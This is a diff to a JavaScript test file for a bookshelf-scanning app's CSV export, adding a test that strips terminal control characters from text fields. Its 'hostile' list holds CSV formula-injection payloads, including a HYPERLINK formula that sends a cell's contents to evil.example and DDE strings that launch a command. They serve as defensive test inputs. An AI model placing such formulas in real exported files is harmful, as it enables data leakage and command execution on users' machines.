@@ -2,7 +2,7 @@
 // (Tests/CLITests/CSVInjectionTests.swift); the browser check compares whole files with `scan --csv`.
 import { test } from "node:test";
 import assert from "node:assert/strict";
-import { bookLine, csv, csvDocument, csvField } from "../../Sources/ScanService/Web/booklist.js";
+import { bookLine, csv, csvDocument, csvField, withoutControls } from "../../Sources/ScanService/Web/booklist.js";
 
 const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\tx=1", "\r=1", "=1\r\n=2"];
 
@@ -36,10 +36,16 @@ test("rows, positions, pixels and fractions as the CLI writes them; the numbered
   assert.equal(csvDocument("shelf.jpg", result),
     "image,book,row,position,title,author,confidence,text_confidence,x,y,width,height\r\n"
     + "shelf.jpg,1,1,1,Dune,Frank Herbert,0.9,0.5,0,36,48,288\r\n"
-    + "shelf.jpg,2,1,2,  ,,1.0,,96,36,48,288\r\n"
-    + "shelf.jpg,3,2,1,Emma\u001b[31m,,0.123,1.0,192,36,48,288\r\n"
+    + "shelf.jpg,2,1,2,,,1.0,,96,36,48,288\r\n"
+    + "shelf.jpg,3,2,1,Emma [31m,,0.123,1.0,192,36,48,288\r\n"
     + "shelf.jpg,4,2,2,,,0.0,,288,36,48,288\r\n");
   assert.deepEqual(result.spines.map((s) => bookLine(s, result)), [
     "1. Dune — Frank Herbert", "2. (unread spine, 48 px wide)", "3. Emma [31m", "4. (unread spine, 288 px thick)",
   ]);
+});
+
+test("text fields lose control characters (C0, C1, format) as the terminal's lines do", () => {
+  assert.equal(withoutControls("Emma\u001b[31m\u0007"), "Emma [31m");
+  assert.equal(withoutControls("\u009b31m=red\u200b"), "31m=red");
+  assert.equal(withoutControls("\tx=1"), "x=1");
 });
